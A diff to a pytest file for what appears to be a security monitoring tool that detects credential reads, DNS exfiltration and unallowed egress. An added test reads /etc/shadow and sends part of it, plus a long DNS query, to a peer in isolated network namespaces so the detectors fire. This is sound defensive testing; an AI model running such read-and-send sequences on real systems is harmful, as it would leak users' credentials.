@@ -6,7 +6,11 @@ from __future__ import annotations
 
 import os
 import socket
+import subprocess
+import sys
+import textwrap
 import threading
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -200,7 +204,6 @@ def test_uring_send_after_a_credential_read_escalates(run_session, tmp_path: Pat
     then /etc/shadow opened (IORING_OP_OPENAT), then IORING_OP_SEND on the socket (no
     address in the SQE): the sequence's kill, through the (pid, fd) of the connect."""
     import shutil
-    import subprocess
 
     from detectors.config import defaults
     from tests.conftest import REPO
@@ -227,3 +230,80 @@ def test_uring_send_after_a_credential_read_escalates(run_session, tmp_path: Pat
     assert [(a.severity, a.fields["syscall"], a.fields.get("via")) for a in alerts] == [
         ("high", "openat", None), ("critical", "sendto", "io_uring")]
     assert alerts[-1].fields["address"] == str(outside)
+
+
+@pytest.fixture
+def two_netns() -> Iterator[tuple[str, str]]:
+    """Two network namespaces of this test's own, joined by a veth pair: "a" holds
+    10.213.7.1/30, "b" 10.213.7.2/30. No packet can reach anything else."""
+    tag = f"aw{os.getpid() % 100000}"
+    a, b = f"{tag}a", f"{tag}b"
+
+    def ip(*args: str) -> None:
+        subprocess.run(["ip", *args], check=True, capture_output=True)
+
+    ip("netns", "add", a)
+    try:
+        ip("netns", "add", b)
+        ip("-n", a, "link", "add", "v0", "type", "veth", "peer", "name", "v1", "netns", b)
+        ip("-n", a, "addr", "add", "10.213.7.1/30", "dev", "v0")
+        ip("-n", b, "addr", "add", "10.213.7.2/30", "dev", "v1")
+        for ns, dev in ((a, "v0"), (b, "v1")):
+            ip("-n", ns, "link", "set", dev, "up")
+            ip("-n", ns, "link", "set", "lo", "up")
+        yield a, b
+    finally:
+        subprocess.run(["ip", "netns", "del", b], capture_output=True)
+        subprocess.run(["ip", "netns", "del", a], capture_output=True)
+
+
+def test_inet_outside_the_allowlist_write_after_read(run_session, two_netns) -> None:
+    """In a namespace of its own with a non-loopback peer: TCP connections to it (port 8443
+    and 53) first, then /etc/shadow read, then DNS over TCP by write() on the port-53 one
+    (dns_exfil's, not the sequence's), then write() on the other: credential_read's kill
+    on that write (the connects alone are egress_violation's)."""
+    from detectors.config import defaults
+    from tests.detector_fixtures import replay
+
+    a, b = two_netns
+    server = subprocess.Popen(
+        ["ip", "netns", "exec", b, sys.executable, "-c", textwrap.dedent("""
+            import socket, threading
+            def serve(port):
+                s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+                s.bind(("10.213.7.2", port)); s.listen(4); s.settimeout(30)
+                try:
+                    while True:
+                        c, _ = s.accept()
+                        while c.recv(4096):
+                            pass
+                except OSError:
+                    pass
+            for p in (8443, 53):
+                threading.Thread(target=serve, args=(p,), daemon=True).start()
+            print("ready", flush=True)
+            import time; time.sleep(30)
+        """)], stdout=subprocess.PIPE)
+    try:
+        assert server.stdout is not None and server.stdout.readline().strip() == b"ready"
+        r = run_session(["ip", "netns", "exec", a, *py(f"""
+            import socket, os, struct
+            c = socket.create_connection(("10.213.7.2", 8443))
+            os.write(c.fileno(), b"GET / HTTP/1.0\\r\\n\\r\\n")
+            d = socket.create_connection(("10.213.7.2", 53))
+            secret = open("/etc/shadow", "rb").read()
+            q = dns_query({LONG!r})
+            os.write(d.fileno(), struct.pack("!H", len(q)) + q)
+            os.write(c.fileno(), secret[:64] or b"x")
+        """)])
+    finally:
+        server.kill()
+        server.wait()
+    assert r.exit_status == 0
+    alerts = [a for a in replay(r.events, defaults()) if not a.folded]
+    cred = [(x.severity, x.fields["syscall"], x.fields.get("port")) for x in alerts
+            if x.detector == "credential_read"]
+    assert cred == [("high", "openat", None), ("critical", "write", 8443)]
+    assert [x.fields["query"] for x in alerts if x.detector == "dns_exfil"] == [LONG]
+    assert {x.key for x in alerts if x.detector == "egress_violation"} == {
+        "10.213.7.2:8443", "10.213.7.2:53"}
